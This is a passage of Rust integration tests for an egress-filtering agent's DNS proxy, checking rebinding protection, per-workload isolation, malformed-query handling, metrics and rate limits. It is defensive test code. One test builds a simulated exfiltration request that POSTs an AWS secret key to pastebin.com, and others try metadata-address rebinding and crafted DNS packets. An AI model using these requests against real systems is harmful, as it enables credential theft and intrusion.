    let inner = "resolve tcp4 198.18.0.2 inner.example.test A";
    let inner_connect = "connect tcp4 198.18.9.9 8443";
    let out = finished(
        &tb,
        agent(&tb, &policy).args([
            meta,
            meta_connect,
            mixed,
            alias,
            meta6,
            meta6_connect,
            inner,
            inner_connect,
        ]),
    );
    for op in [meta, alias, meta6, inner] {
        let r = out.assert_ok(op);
        assert_eq!(
            r.addrs.as_deref(),
            Some(&[][..]),
            "`{op}`: the denied address reached the workload\n{}",
            out.describe()
        );
    }
    assert_answer(&out, mixed, rcode::NOERROR, &["198.18.0.10"]);
    for op in [meta_connect, meta6_connect, inner_connect] {
        out.assert_errno(op, EPERM);
    }
    assert_arrived(&good, b"mixed", &out);
    assert_nothing_arrived(&[&denied_range], &out);
    for name in [
        "meta.example.test",
        "mixed.example.test",
        "alias.example.test",
    ] {
        assert_forwarded(&dns, name, &out);
    }
    let rebinding = events(&out, "dns_rebinding_blocked");
    for (name, addr) in [
        ("meta.example.test", "169.254.169.254"),
        ("mixed.example.test", "169.254.169.254"),
        ("alias.example.test", "169.254.169.254"),
        ("meta6.example.test", "fd00:ec2::254"),
        ("inner.example.test", "198.18.9.9"),
    ] {
        assert!(
            rebinding
                .iter()
                .any(|e| e["name"] == name && e["address"] == addr),
            "no dns_rebinding_blocked line for {name} -> {addr}: {rebinding:#?}\n{}",
            out.stderr
        );
    }
}

// --- 8. Per workload ----------------------------------------------------------------------

/// Two workloads under two agents with different policies, side by side in one namespace:
/// what one learns from its lookups opens nothing for the other, while both stay alive (so
/// each one's learned addresses are in force when the other tries them). The workloads sync
/// through files, not sleeps.
#[test]
fn addresses_learned_by_one_workload_open_nothing_for_another() {
    let Some(tb) = testbed() else { return };
    let [la, lb] = remote_listeners(&tb, ["198.18.0.10:8443", "198.18.0.11:8443"]);
    let dns = upstream(
        &tb,
        Dnsmasq::config()
            .record("x.a.example.test", ip("198.18.0.10"))
            .record("x.b.example.test", ip("198.18.0.11")),
    );
    let sync = tb.sync_dir().expect("sync dir");
    let file = |f: &str| sync.path().join(f).display().to_string();
    let ops = |me: &str, peer: &str, peer_addr: &str, own_addr: &str| -> Vec<String> {
        vec![
            format!("resolve udp4 198.18.0.2 x.{me}.example.test A then-connect tcp4 8443 {me}"),
            format!("touch {}", file(&format!("{me}-resolved"))),
            format!("wait-file {} 30000", file(&format!("{peer}-resolved"))),
            format!("connect tcp4 {peer_addr} 8443"),
            format!("resolve udp4 198.18.0.2 x.{peer}.example.test A"),
            format!("connect tcp4 {own_addr} 8443"),
            format!("touch {}", file(&format!("{me}-done"))),
            format!("wait-file {} 30000", file(&format!("{peer}-done"))),
        ]
    };
    let ops_a = ops("a", "b", "198.18.0.11", "198.18.0.10");
    let ops_b = ops("b", "a", "198.18.0.10", "198.18.0.11");
    let run_a = agent(
        &tb,
        &policy()
            .name("dns-a")
            .allow_wildcard("a.example.test", &[8443], &["tcp"]),
    )
    .args(&ops_a);
    let run_b = agent(
        &tb,
        &policy()
            .name("dns-b")
            .allow_wildcard("b.example.test", &[8443], &["tcp"]),
    )
    .args(&ops_b);
    let (out_a, out_b) = std::thread::scope(|s| {
        let a = s.spawn(|| run_a.run_in(tb.client()).expect("agent run a"));
        let b = s.spawn(|| run_b.run_in(tb.client()).expect("agent run b"));
        (a.join().expect("thread a"), b.join().expect("thread b"))
    });
    for (out, ops, own) in [
        (&out_a, &ops_a, "198.18.0.10"),
        (&out_b, &ops_b, "198.18.0.11"),
    ] {
        out.assert_exit(0);
        assert_answer(out, &ops[0], rcode::NOERROR, &[own]);
        for op in &ops[1..3] {
            out.assert_ok(op);
        }
        out.assert_errno(&ops[3], EPERM);
        assert_nxdomain(out, &ops[4]);
        out.assert_ok(&ops[5]);
    }
    assert_arrived(&la, b"a", &out_a);
    assert_arrived(&lb, b"b", &out_b);
    std::thread::sleep(SETTLE);
    // Each listener saw its own workload twice (then-connect and the later connect) and the
    // other workload never.
    assert_eq!((la.connections(), lb.connections()), (2, 2));
    // Each name was asked upstream by its own workload only: once.
    assert_eq!(
        dns.queries_for("x.a.example.test").len(),
        1,
        "{:?}",
        dns.queried()
    );
    assert_eq!(
        dns.queries_for("x.b.example.test").len(),
        1,
        "{:?}",
        dns.queried()
    );
}

// --- 9. The seed's test case 5 ------------------------------------------------------------

/// Seed case 5, "Data exfiltration: POST to pastebin.com -> blocked": the name does not
/// resolve for the workload (and is not asked upstream), and the address the real server
/// would give opens neither on 443 nor on 80.
#[test]
fn seed_case_5_a_post_to_pastebin_is_blocked() {
    let Some(tb) = testbed() else { return };
    let [api, paste443, paste80] = remote_listeners(
        &tb,
        ["198.18.0.10:443", "198.18.0.67:443", "198.18.0.67:80"],
    );
    let dns = upstream(
        &tb,
        Dnsmasq::config()
            .record("api.company.test", ip("198.18.0.10"))
            .record("pastebin.com", ip("198.18.0.67")),
    );
    let policy = policy()
        .allow_host("api.company.test", &[443], &["https"])
        .block_doh(true)
        .block_dot(true);
    let resolve = "resolve udp4 198.18.0.2 pastebin.com A";
    let resolve_tcp = "resolve tcp4 198.18.0.2 pastebin.com A";
    let post = "send tcp4 198.18.0.67 443 POST /api/api_post.php HTTP/1.1\r\nHost: pastebin.com\r\n\r\napi_paste_code=AWS_SECRET_ACCESS_KEY";
    let post80 = "send tcp4 198.18.0.67 80 POST /api/api_post.php HTTP/1.1";
    let allowed = "resolve udp4 198.18.0.2 api.company.test A then-connect tcp4 443 GET /v1/status";
    let out = finished(
        &tb,
        agent(&tb, &policy).args([resolve, resolve_tcp, post, post80, allowed]),
    );
    assert_nxdomain(&out, resolve);
    assert_nxdomain(&out, resolve_tcp);
    out.assert_errno(post, EPERM);
    out.assert_errno(post80, EPERM);
    assert_answer(&out, allowed, rcode::NOERROR, &["198.18.0.10"]);
    assert_arrived(&api, b"GET /v1/status", &out);
    assert_nothing_arrived(&[&paste443, &paste80], &out);
    assert_not_forwarded(&dns, "pastebin.com", &out);
    assert!(!refused(&out, "pastebin.com").is_empty(), "{}", out.stderr);
}

// --- 10. A workload in its own network namespace ------------------------------------------

/// `--netns`: the workload runs in a namespace of its own (as in a pod) whose only addresses
/// are on its loopback and which has no route anywhere; its queries to any resolver address
/// reach the proxy listening inside that namespace, and the proxy's upstream queries leave
/// from the agent's namespace. The allowed name's pod-local address opens at once; other
/// names get NXDOMAIN.
#[test]
fn a_workload_in_its_own_network_namespace_gets_the_same_dns_control() {
    let Some(tb) = testbed() else { return };
    let pod = Netns::new("pod").expect("pod namespace");
    pod.add_local_addr(ip("198.18.7.1")).expect("pod address");
    assert!(
        !pod.has_route_to(ip(UPSTREAM)),
        "the pod must not reach the resolver itself"
    );
    let svc = Listener::tcp(&pod, sa("198.18.7.1:8443")).expect("listener in the pod");
    let dns = upstream(
        &tb,
        Dnsmasq::config()
            .record("svc.example.test", ip("198.18.7.1"))
            .record("evil.test", ip("198.18.7.1")),
    );
    let policy = policy().allow_wildcard("example.test", &[8443], &["tcp"]);
    let before = "connect tcp4 198.18.7.1 8443";
    let udp = "resolve udp4 198.18.0.2 svc.example.test A then-connect tcp4 8443 from-the-pod";
    let tcp = "resolve tcp4 198.18.0.2 svc.example.test A";
    let stub = "resolve udp4-sendto 127.0.0.53 svc.example.test A";
    let v6 = "resolve udp6 fd00:e9::2 svc.example.test A";
    let evil = "resolve udp4 198.18.0.2 evil.test A";
    let out = finished(
        &tb,
        agent(&tb, &policy)
            .workload_netns(&pod)
            .args([before, udp, tcp, stub, v6, evil]),
    );
    // The wildcard cannot be resolved in advance: the pod's address opens with the answer.
    out.assert_errno(before, EPERM);
    for op in [udp, tcp, stub, v6] {
        assert_answer(&out, op, rcode::NOERROR, &["198.18.7.1"]);
    }
    assert_from(&out, udp, "198.18.0.2:53");
    assert_from(&out, stub, "127.0.0.53:53");
    assert_nxdomain(&out, evil);
    assert_arrived(&svc, b"from-the-pod", &out);
    assert_not_forwarded(&dns, "evil.test", &out);
    let asked = dns.queries_for("svc.example.test");
    assert!(
        !asked.is_empty() && asked.iter().all(|q| q.from == "198.18.0.1"),
        "upstream queries must come from the agent's namespace (198.18.0.1): {asked:?}"
    );
}

// --- 11. DNS over TCP and hostile input ---------------------------------------------------

/// The header, then `labels` labels of 63 `a`s: a name longer than 255 bytes.
fn long_name_query(labels: usize) -> String {
    let mut hex = String::from("abcd01000001000000000000");
    for _ in 0..labels {
        hex.push_str("3f");
        hex.push_str(&"61".repeat(63));
    }
    hex.push_str("0000010001");
    hex
}

/// DNS over TCP is answered like UDP (length framing, the same refusals). Malformed
/// queries over UDP and TCP (too short, a question count with no question, a compression
/// loop, a label running past the end, an over-long name, a response instead of a query,
/// bytes that are not framed) get FORMERR or no answer, and the proxy keeps serving: the
/// valid queries after them are answered.
#[test]
fn tcp_queries_are_answered_and_malformed_ones_get_formerr_or_nothing() {
    let Some(tb) = testbed() else { return };
    let [api] = remote_listeners(&tb, ["198.18.0.10:8443"]);
    let dns = upstream(
        &tb,
        Dnsmasq::config()
            .record("example.test", ip("198.18.0.10"))
            .record("evil.test", ip("198.18.0.11")),
    );
    let policy = policy().allow_wildcard("example.test", &[8443], &["tcp"]);
    let tcp = "resolve tcp4 198.18.0.2 api.example.test A then-connect tcp4 8443 over-tcp";
    let tcp6 = "resolve tcp6 fd00:e9::2 api.example.test A";
    let tcp_repeat = "resolve tcp4 198.18.0.2 n{i}.example.test A repeat 20";
    let tcp_evil = "resolve tcp4 198.18.0.2 evil.test A";
    let bad_messages = [
        "1234".to_owned(),
        "123401000001000000000000".to_owned(),
        "123401000001000000000000c00c00010001".to_owned(),
        "1234010000010000000000003f61".to_owned(),
        long_name_query(5),
        "12348180000100000000000001610474657374000001 0001".replace(' ', ""),
    ];
    let mut malformed = Vec::new();
    for hex in &bad_messages {
        malformed.push(format!("dnsraw udp4 198.18.0.2 {hex}"));
    }
    for hex in &bad_messages[1..4] {
        malformed.push(format!("dnsraw tcp4 198.18.0.2 {hex}"));
    }
    let unframed = "send tcp4 198.18.0.2 53 this is not a DNS message";
    let after_udp = "resolve udp4 198.18.0.2 after.example.test A";
    let after_tcp = "resolve tcp4 198.18.0.2 after.example.test A";
    let out = finished(
        &tb,
        agent(&tb, &policy)
            .timeout(Duration::from_secs(120))
            .args([tcp, tcp6, tcp_repeat, tcp_evil])
            .args(&malformed)
            .args([unframed, after_udp, after_tcp]),
    );
    assert_answer(&out, tcp, rcode::NOERROR, &["198.18.0.10"]);
    assert_from(&out, tcp, "198.18.0.2:53");
    assert_answer(&out, tcp6, rcode::NOERROR, &["198.18.0.10"]);
    assert_from(&out, tcp6, "[fd00:e9::2]:53");
    assert_eq!(
        assert_answer(&out, tcp_repeat, rcode::NOERROR, &["198.18.0.10"]).count,
        Some(20)
    );
    assert_nxdomain(&out, tcp_evil);
    assert_arrived(&api, b"over-tcp", &out);
    for op in &malformed {
        let r = out.result(op).expect("ran");
        let formerr = r.ok && r.rcode == Some(rcode::FORMERR);
        let nothing = !r.ok
            && (r.errno == Some(libc::ETIMEDOUT)
                || r.errno.is_none() && r.error.as_deref().is_some_and(|e| e.contains("closed")));
        assert!(
            formerr || nothing,
            "`{op}`: expected FORMERR or no answer, got {} rcode {:?}\n{}",
            if r.ok {
                "a reply".to_owned()
            } else {
                r.error.clone().unwrap_or_default()
            },
            r.rcode,
            out.describe()
        );
        if let Some(errno) = r.errno.filter(|e| *e != libc::ETIMEDOUT) {
            panic!("`{op}` failed with {}", errno_name(errno));
        }
    }
    assert_answer(&out, after_udp, rcode::NOERROR, &["198.18.0.10"]);
    assert_answer(&out, after_tcp, rcode::NOERROR, &["198.18.0.10"]);
    assert_not_forwarded(&dns, "evil.test", &out);
    assert!(
        !out.stderr.contains("panicked"),
        "the agent panicked\n{}",
        out.stderr
    );
}

// --- 12. Metrics --------------------------------------------------------------------------

/// GET `path` from `addr` inside a namespace; `None` while nothing listens there.
fn http_get(ns: &NetnsHandle, addr: SocketAddr, path: &str) -> Option<String> {
    let ns = ns.clone();
    let path = path.to_owned();
    std::thread::spawn(move || {
        ns.enter_current_thread().ok()?;
        let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(2)).ok()?;
        s.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
        write!(
            s,
            "GET {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n"
        )
        .ok()?;
        let mut body = String::new();
        s.read_to_string(&mut body).ok()?;
        Some(body)
    })
    .join()
    .ok()
    .flatten()
}

/// The sum of the samples of `metric` whose labels include every `labels` pair.
fn metric(exposition: &str, metric: &str, labels: &[(&str, &str)]) -> Option<f64> {
    let mut found = None;
    for line in exposition.lines().filter(|l| !l.starts_with('#')) {
        let Some((series, value)) = line.rsplit_once(' ') else {
            continue;
        };
        let (name, label_text) = match series.split_once('{') {
            Some((n, rest)) => (n, rest.trim_end_matches('}')),
            None => (series, ""),
        };
        if name != metric {
            continue;
        }
        if labels
            .iter()
            .all(|(k, v)| label_text.split(',').any(|kv| kv == format!("{k}=\"{v}\"")))
        {
            *found.get_or_insert(0.0) += value.parse::<f64>().unwrap_or(f64::NAN);
        }
    }
    found
}

/// A metric, label pairs its sample must have, and the value expected.
type Expected<'a> = (&'a str, &'a [(&'a str, &'a str)], f64);

/// `egress_dns_queries_total{policy,result}` counts every outcome; the rebinding counter and
/// the learned-address gauge move; no label holds an address or a query name.
#[test]
fn dns_queries_are_counted_by_result_in_the_metrics() {
    let Some(tb) = testbed() else { return };
    let _dns = upstream(
        &tb,
        Dnsmasq::config()
            .record("api.example.test", ip("198.18.0.10"))
            .record("meta.example.test", ip("169.254.169.254"))
            .record("evil.test", ip("198.18.0.11")),
    );
    let metrics: SocketAddr = sa("127.0.0.1:19466");
    let sync = tb.sync_dir().expect("sync dir");
    let ready = sync.path().join("ready");
    let scraped = sync.path().join("scraped");
    let policy = policy()
        .name("dns-metrics")
        .allow_wildcard("example.test", &[8443], &["tcp"])
        .allow_wildcard("quad9.net", &[443], &["tcp"])
        .deny_host("secret.example.test")
        .block_doh(true);
    let ops = vec![
        "resolve udp4 198.18.0.2 evil.test A".to_owned(),
        "resolve udp4 198.18.0.2 evil.test AAAA".to_owned(),
        "resolve tcp4 198.18.0.2 x.evil.test A".to_owned(),
        "resolve udp4 198.18.0.2 api.example.test A".to_owned(),
        "resolve udp4 198.18.0.2 meta.example.test A".to_owned(),
        "resolve udp4 198.18.0.2 secret.example.test A".to_owned(),
        "resolve udp4 198.18.0.2 dns.quad9.net A".to_owned(),
        "dnsraw udp4 198.18.0.2 123401000001000000000000c00c00010001".to_owned(),
        format!("touch {}", ready.display()),
        format!("wait-file {} 30000", scraped.display()),
    ];
    let run = agent(&tb, &policy)
        .agent_arg("--metrics-addr")
        .agent_arg(metrics.to_string())
        .args(&ops);
    let handle = tb.client().handle();
    let q = "egress_dns_queries_total";
    let p = ("policy", "dns-metrics");
    let c = "egress_connections_total";
    let deny = ("verdict", "deny");
    let want: [Expected; 10] = [
        // Refused names are blocked attempts, in the same family as refused connects.
        (c, &[p, deny, ("reason", "dns_name_not_allowed")], 3.0),
        (c, &[p, deny, ("reason", "dns_name_denied")], 1.0),
        (c, &[p, deny, ("reason", "dns_name_doh_provider")], 1.0),
        (q, &[p, ("result", "not_allowed")], 3.0),
        (q, &[p, ("result", "allowed")], 2.0),
        (q, &[p, ("result", "denied")], 1.0),
        (q, &[p, ("result", "doh_provider")], 1.0),
        (q, &[p, ("result", "malformed")], 1.0),
        ("egress_dns_rebinding_blocked_total", &[p], 1.0),
        ("egress_dns_learned_addresses", &[p], 1.0),
    ];
    let (out, exposition) = std::thread::scope(|s| {
        let agent = s.spawn(|| run.run_in(tb.client()).expect("agent run"));
        let deadline = Instant::now() + Duration::from_secs(30);
        while !ready.exists() && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(50));
        }
        let mut exposition = String::new();
        while Instant::now() < deadline {
            exposition = http_get(&handle, metrics, "/metrics").unwrap_or_default();
            if want
                .iter()
                .all(|(m, labels, v)| metric(&exposition, m, labels) == Some(*v))
            {
                break;
            }
            std::thread::sleep(Duration::from_millis(200));
        }
        std::fs::write(&scraped, b"").expect("releasing the workload");
        (agent.join().expect("agent thread"), exposition)
    });
    out.assert_exit(0);
    for (m, labels, v) in want {
        assert_eq!(
            metric(&exposition, m, labels),
            Some(v),
            "{m} {labels:?} in\n{exposition}\n{}",
            out.describe()
        );
    }
    for leak in ["198.18.", "169.254.", "evil.test", "example.test", "quad9"] {
        assert!(
            !exposition.contains(leak),
            "{leak:?} leaked into a label:\n{exposition}"
        );
    }
}

/// A real HTTP client (curl) as the workload: a name the policy refuses and an address it
/// refuses are both blocked attempts, logged as `egress_blocked` and counted under
/// `egress_connections_total{verdict="deny"}`, the family the shipped alert watches.
#[test]
fn curl_refused_by_name_and_by_address_both_count_as_blocked_egress() {
    let Some(tb) = testbed() else { return };
    let curl = std::env::var_os("PATH")
        .map(|p| {
            std::env::split_paths(&p)
                .map(|d| d.join("curl"))
                .collect::<Vec<_>>()
        })
        .unwrap_or_default()
        .into_iter()
        .find(|c| c.is_file());
    let Some(curl) = curl else {
        assert!(
            std::env::var_os("CI").is_none(),
            "curl is missing (scripts/bootstrap.sh installs it)"
        );
        eprintln!("SKIP: no curl");
        return;
    };
    let [rogue] = remote_listeners(&tb, ["198.18.0.66:8080"]);
    let _dns = upstream(
        &tb,
        Dnsmasq::config().record("evil.example.test", ip("198.18.0.66")),
    );
    let metrics: SocketAddr = sa("127.0.0.1:19467");
    let sync = tb.sync_dir().expect("sync dir");
    let ready = sync.path().join("ready");
    let scraped = sync.path().join("scraped");
    let script = format!(
        // curl's own messages would share stderr with the agent's JSON lines: silenced.
        "{curl} -s -m 5 -o /dev/null http://evil.example.test:8080/by-name 2>/dev/null; echo by-name=$?; \
         {curl} -s -m 5 -o /dev/null http://198.18.0.66:8080/by-address 2>/dev/null; echo by-address=$?; \
         touch {ready}; i=0; while [ ! -e {scraped} ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done",
        curl = curl.display(),
        ready = ready.display(),
        scraped = scraped.display(),
    );
    let policy_path = tb
        .write_policy(&policy().name("curl").render())
        .expect("policy");
    let run = AgentRun::new(&policy_path, &tb.cgroups, Path::new("/bin/sh"))
        .expect("agent command")
        .json_log()
        .agent_arg("--metrics-addr")
        .agent_arg(metrics.to_string())
        .args(["-c", script.as_str()]);
    let handle = tb.client().handle();
    let c = "egress_connections_total";
    let (out, exposition) = std::thread::scope(|s| {
        let agent = s.spawn(|| run.run_in(tb.client()).expect("agent run"));
        let deadline = Instant::now() + Duration::from_secs(30);
        while !ready.exists() && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(50));
        }
        let mut exposition = String::new();
        while Instant::now() < deadline {
            exposition = http_get(&handle, metrics, "/metrics").unwrap_or_default();
            if metric(&exposition, c, &[("reason", "no_matching_rule")]).is_some() {
                break;
            }
            std::thread::sleep(Duration::from_millis(200));
        }
        std::fs::write(&scraped, b"").expect("releasing the workload");
        (agent.join().expect("agent thread"), exposition)
    });
    assert_eq!(out.exit_code(), Some(0), "{}", out.describe());
    // curl: 6 = could not resolve the host, 7 = could not connect.
    assert!(out.stdout.contains("by-name=6"), "{}", out.describe());
    assert!(out.stdout.contains("by-address=7"), "{}", out.describe());
    assert_nothing_arrived(&[&rogue], &out);
    let deny = ("verdict", "deny");
    let policy_label = ("policy", "curl");
    let by_name = metric(
        &exposition,
        c,
        &[policy_label, deny, ("reason", "dns_name_not_allowed")],
    );
    let by_address = metric(
        &exposition,
        c,
        &[
            policy_label,
            deny,
            ("reason", "no_matching_rule"),
            ("protocol", "tcp"),
        ],
    );
    assert!(by_name.is_some_and(|n| n >= 1.0), "{exposition}");
    assert!(by_address.is_some_and(|n| n >= 1.0), "{exposition}");
    let name_events: Vec<Value> = blocked(&out, "dns_name_not_allowed")
        .into_iter()
        .filter(|e| e["hook"] == "dns_proxy" && e["dns.name"] == "evil.example.test")
        .collect();
    assert!(!name_events.is_empty(), "{}", out.describe());
    assert_eq!(name_events[0]["level"], "WARN");
    let addr_events: Vec<Value> = blocked(&out, "no_matching_rule")
        .into_iter()
        .filter(|e| e["dst.ip"] == "198.18.0.66" && e["dst.port"] == 8080)
        .collect();
    assert!(!addr_events.is_empty(), "{}", out.describe());
    assert_eq!(addr_events[0]["level"], name_events[0]["level"]);
}

// --- Lifetimes and the query budget -------------------------------------------------------

/// A learned address lives for the answer's TTL (clamped by --dns-min-ttl/--dns-max-ttl)
/// plus the expiry grace, then stops new connections; asking again opens it again.
#[test]
fn a_learned_address_expires_after_its_ttl() {
    let Some(tb) = testbed() else { return };
    let [l] = remote_listeners(&tb, ["198.18.0.10:8443"]);
    let _dns = upstream(
        &tb,
        Dnsmasq::config()
            .record("api.example.test", ip("198.18.0.10"))
            .ttl(1),
    );
    let policy = policy().allow_wildcard("example.test", &[8443], &["tcp"]);
    let first = "resolve udp4 198.18.0.2 api.example.test A then-connect tcp4 8443 first";
    let expired = "connect tcp4 198.18.0.10 8443";
    let again = "resolve udp4 198.18.0.2 api.example.test A then-connect tcp4 8443 again";
    let mut run = agent(&tb, &policy);
    for flag in ["--dns-min-ttl", "--dns-max-ttl", "--dns-expiry-grace"] {
        run = run.agent_arg(flag).agent_arg("1");
    }
    let out = finished(&tb, run.args([first, "sleep 4000", expired, again]));
    assert_answer(&out, first, rcode::NOERROR, &["198.18.0.10"]);
    out.assert_errno(expired, EPERM);
    assert_answer(&out, again, rcode::NOERROR, &["198.18.0.10"]);
    assert_eq!(wait_connections(&l, 2), 2, "{}", out.describe());
    assert_eq!(
        (
            connections_with(&l, b"first"),
            connections_with(&l, b"again")
        ),
        (1, 1)
    );
}

/// The proxy bounds a workload's query rate: past `--dns-query-burst` at a low
/// `--dns-query-rate`, queries get REFUSED, are counted as `rate_limited`, and do not reach
/// the upstream server.
#[test]
fn a_workload_query_flood_is_refused_past_its_budget() {
    let Some(tb) = testbed() else { return };
    let dns = upstream(
        &tb,
        Dnsmasq::config().record("example.test", ip("198.18.0.10")),
    );
    let policy = policy().allow_wildcard("example.test", &[8443], &["tcp"]);
    let flood = "resolve udp4 198.18.0.2 q{i}.example.test A repeat 50";
    let out = finished(
        &tb,
        agent(&tb, &policy)
            .agent_arg("--dns-query-rate")
            .agent_arg("1")
            .agent_arg("--dns-query-burst")
            .agent_arg("5")
            .arg(flood),
    );
    let r = out.result(flood).expect("ran");
    assert_eq!(
        (r.ok, r.count, r.rcode),
        (false, Some(5), Some(rcode::REFUSED)),
        "five answers, then REFUSED\n{}",
        out.describe()
    );
    assert_eq!(
        dns.queries_at_or_below("example.test").len(),
        5,
        "{:?}",
        dns.queried()
    );
    assert!(
        events(&out, "dns_refused")
            .iter()
            .any(|l| l["result"] == "rate_limited"),
        "{}",
        out.stderr
    );
}

/// `explain-last` and `status` show a running workload's last blocked attempts, by name and
/// by address, with what would allow them.
#[test]
fn explain_last_shows_a_running_workloads_blocked_attempts() {
    let Some(tb) = testbed() else { return };
    let [_rogue] = remote_listeners(&tb, ["198.18.0.66:8080"]);
    let _dns = upstream(
        &tb,
        Dnsmasq::config().record("api.example.test", ip("198.18.0.10")),
    );
    let sync = tb.sync_dir().expect("sync dir");
    let ready = sync.path().join("ready");
    let done = sync.path().join("done");
    let policy = policy().allow_host("api.example.test", &[8443], &["tcp"]);
    let run = agent(&tb, &policy).args([
        "resolve udp4 198.18.0.2 evil.example.test A".to_owned(),
        "connect tcp4 198.18.0.66 8080".to_owned(),
        format!("touch {}", ready.display()),
        format!("wait-file {} 30000", done.display()),
    ]);
    let agent_bin = egress_tests::agent::agent_bin().expect("agent binary");
    let parent = tb.cgroups.path().to_path_buf();
    let (out, explained, status) = std::thread::scope(|s| {
        let agent = s.spawn(|| run.run_in(tb.client()).expect("agent run"));
        let deadline = Instant::now() + Duration::from_secs(30);
        while !ready.exists() && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(50));
        }
        let ours = |v: &Value| {
            v["cgroup"]
                .as_str()
                .is_some_and(|c| Path::new(c).starts_with(&parent))
        };
        let mut explained = Value::Null;
        while Instant::now() < deadline {
            let out = std::process::Command::new(&agent_bin)
                .args(["explain-last", "--json"])
                .output()
                .expect("explain-last");
            let all: Value = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
            if let Some(e) = all.as_array().and_then(|a| a.iter().find(|v| ours(v)))
                && e["recent"].as_array().is_some_and(|r| r.len() >= 2)
            {
                explained = e.clone();
                break;
            }
            std::thread::sleep(Duration::from_millis(200));
        }
        let status = std::process::Command::new(&agent_bin)
            .arg("status")
            .output()
            .expect("status");
        std::fs::write(&done, b"").expect("releasing the workload");
        (
            agent.join().expect("agent thread"),
            explained,
            String::from_utf8_lossy(&status.stdout).into_owned(),
        )
    });
    out.assert_exit(0);
    let recent = explained["recent"].as_array().cloned().unwrap_or_default();
    assert!(
        recent
            .iter()
            .any(|d| d["reason"] == "no_matching_rule" && d["dst"] == "198.18.0.66:8080"),
        "{explained:#}\n{}",
        out.describe()
    );
    assert!(
        recent
            .iter()
            .any(|d| d["reason"] == "dns_name_not_allowed" && d["name"] == "evil.example.test"),
        "{explained:#}"
    );
    assert_eq!(explained["agent_running"], true);
    assert!(
        status.contains("recent blocked attempt") && status.contains("running"),
        "{status}"
    );
}

/// A reload judges the addresses learned under the old policy with the new policy's rebinding
/// filter: an address now in a denied range is reported (`source: reload`) and not carried
/// over, like any address the agent installs.
#[test]
fn a_reload_filters_learned_addresses_like_any_other() {
    let Some(tb) = testbed() else { return };
    let [l] = remote_listeners(&tb, ["198.18.0.40:8443"]);
    let _dns = upstream(
        &tb,
        Dnsmasq::config().record("x.example.test", ip("198.18.0.40")),
    );
    let sync = tb.sync_dir().expect("sync dir");
    let ready = sync.path().join("ready");
    let reloaded = sync.path().join("reloaded");
    let before = policy().allow_wildcard("example.test", &[8443], &["tcp"]);
    let after = before.clone().deny_cidr("198.18.0.40/32");
    let path = tb.write_policy(&before.render()).expect("policy");
    let learn = "resolve udp4 198.18.0.2 x.example.test A then-connect tcp4 8443 before";
    let run = AgentRun::new(&path, &tb.cgroups, tb.probe.path())
        .expect("agent command")
        .json_log()
        .agent_arg("--watch-interval")
        .agent_arg("1")
        .args([
            learn.to_owned(),
            format!("touch {}", ready.display()),
            format!("wait-file {} 30000", reloaded.display()),
            "connect tcp4 198.18.0.40 8443".to_owned(),
        ]);
    let out = std::thread::scope(|s| {
        let agent = s.spawn(|| run.run_in(tb.client()).expect("agent run"));
        let deadline = Instant::now() + Duration::from_secs(30);
        while !ready.exists() && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(50));
        }
        std::fs::write(&path, after.render()).expect("new policy");
        // The watcher looks every second; give it three.
        std::thread::sleep(Duration::from_secs(3));
        std::fs::write(&reloaded, b"").expect("releasing the workload");
        agent.join().expect("agent thread")
    });
    out.assert_exit(0);
    assert_answer(&out, learn, rcode::NOERROR, &["198.18.0.40"]);
    assert_arrived(&l, b"before", &out);
    out.assert_errno("connect tcp4 198.18.0.40 8443", EPERM);
    let filtered = events(&out, "dns_rebinding_blocked");
    assert!(
        filtered.iter().any(|e| e["source"] == "reload"
            && e["address"] == "198.18.0.40"
            && e["name"] == "x.example.test"),
        "{filtered:#?}\n{}",
        out.describe()
    );
}
